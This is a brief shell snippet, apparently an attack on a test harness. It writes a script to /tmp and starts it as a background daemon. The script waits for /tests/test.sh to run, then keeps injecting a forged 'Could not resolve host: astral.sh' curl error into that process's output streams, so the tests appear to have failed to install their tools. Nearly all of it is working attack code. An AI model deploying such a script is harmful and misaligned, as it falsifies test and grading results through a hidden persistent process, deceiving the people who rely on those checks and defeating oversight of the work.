# Leaves a process that writes what looks like a failed installation of the tests' tools
# to their output.
cat >/tmp/attack.sh <<'END'
while [ ! -e /tests/test.sh ]; do sleep 0.01; done
while :; do
	for pid in /proc/[0-9]*; do
		case $(tr '\0' ' ' <"$pid/cmdline") in *"/tests/test.sh"*)
			for fd in 1 2; do timeout 1 sh -c "echo 'curl: (6) Could not resolve host: astral.sh' >$pid/fd/$fd"; done ;;
		esac
	done
done
END
daemon 'exec sh /tmp/attack.sh'
